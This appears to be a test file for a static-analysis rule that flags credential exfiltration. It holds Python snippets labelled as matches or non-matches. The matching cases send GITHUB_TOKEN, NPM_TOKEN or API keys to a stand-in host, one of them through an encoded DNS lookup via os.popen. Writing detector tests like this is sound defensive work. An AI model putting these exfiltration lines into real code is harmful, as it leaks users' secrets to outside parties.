import os, requests, base64


def send():
    key = os.environ["GITHUB_TOKEN"]
    # ruleid: exfiltration-foreign-key
    requests.post("https://a.invalid/", json={"k": key})


def encoded():
    key = base64.b64encode(os.environ["NPM_TOKEN"].encode()).decode()
    # ruleid: exfiltration-foreign-key
    os.popen(f"dig {key}.a.invalid")


def ordinary(text):
    key = os.environ["GITHUB_TOKEN"]
    # ok: exfiltration-foreign-key
    requests.post("https://api.github.com/x", headers={"Authorization": f"Bearer {key}"}, json={"text": text})


def of_nobody_in_particular(report):
    key = os.getenv("API_KEY", "")
    # ruleid: exfiltration-foreign-key
    requests.post("https://a.invalid/", json={"report": report, "key": key})


def of_its_own_service(report):
    key = os.environ["ACME_API_KEY"]
    # ok: exfiltration-foreign-key
    requests.post("https://api.acme.example/", json={"report": report, "key": key})
